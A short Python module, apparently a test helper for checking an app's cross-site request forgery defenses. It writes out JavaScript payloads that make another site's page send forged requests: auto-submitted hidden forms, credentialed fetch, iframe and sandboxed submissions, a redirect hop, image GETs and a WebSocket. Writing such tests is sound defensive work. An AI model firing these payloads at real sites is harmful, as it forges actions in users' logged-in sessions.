"""Attacks: what a page of somebody else makes a browser send to the app (CSRF).

Each is the body of a function that has `target`, the URL, and `fields`, those of a form.
"""

import json

_FORM = """
const form = document.createElement('form')
form.method = 'post'
form.action = target
for (const [name, value] of Object.entries(fields)) {
  const input = document.createElement('input')
  Object.assign(input, { type: 'hidden', name, value })
  form.append(input)
}
document.body.append(form)
"""
_FRAME = """
const frame = document.createElement('iframe')
frame.name = 'frame'
document.body.append(frame)
"""
# After the script has returned, since the page goes.
_SUBMIT = "setTimeout(() => form.submit())"
# By what a page sends an unsafe request.
POSTS = {
    "form": f"{_FORM} {_SUBMIT}",
    "fetch": """
const body = new URLSearchParams(fields)
fetch(target, { method: 'POST', mode: 'no-cors', credentials: 'include', body })
""",
    "iframe": f"{_FRAME} {_FORM} form.target = 'frame'; form.submit()",
    "307": f"{_FORM} form.action = '/hop?to=' + encodeURIComponent(target); {_SUBMIT}",
    "sandbox": f"""
{_FORM} {_FRAME}
frame.sandbox = 'allow-forms allow-scripts'
frame.srcdoc = form.outerHTML + '<script>document.forms[0].submit()</script>'
""",
}
# By what it sends a safe one.
GETS = {
    "image": "new Image().src = target",
    "iframe": f"{_FRAME} frame.src = target",
}
SOCKET = "new WebSocket(target.replace('http', 'ws'))"


def attack(script: str, target: str, **fields: str) -> str:
    """Write an attack on a URL."""
    return f"const target = {json.dumps(target)}, fields = {json.dumps(fields)}; {script}"
